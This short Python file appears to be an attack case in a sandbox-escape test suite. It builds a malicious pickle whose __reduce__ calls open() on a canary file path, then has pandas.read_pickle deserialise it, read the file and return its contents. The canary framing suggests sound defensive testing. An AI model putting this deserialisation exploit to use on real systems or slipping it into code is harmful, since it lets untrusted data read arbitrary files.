"""Has pandas unpickle what opens the canary."""
import io
import pickle
import pandas


class Evil:
    path = ""

    def __reduce__(self):
        return open, (Evil.path,)


def attack(canary):
    Evil.path = canary["file"]
    return "escaped " + pandas.read_pickle(io.BytesIO(pickle.dumps(Evil()))).read()
